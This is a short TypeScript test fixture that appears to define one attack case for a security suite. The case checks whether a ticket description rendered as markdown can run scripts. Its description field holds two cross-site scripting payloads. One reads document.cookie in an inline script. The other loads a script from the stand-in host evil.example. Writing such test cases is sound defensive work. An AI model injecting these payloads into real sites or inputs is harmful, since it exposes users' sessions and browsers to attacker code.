import type { Attack } from '../attack.ts';

export default {
  aim: 'run a script on the page',
  wall: 'markdown',
  ticket: {
    description:
      '<script>alert(document.cookie)</script>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  },
} satisfies Attack;
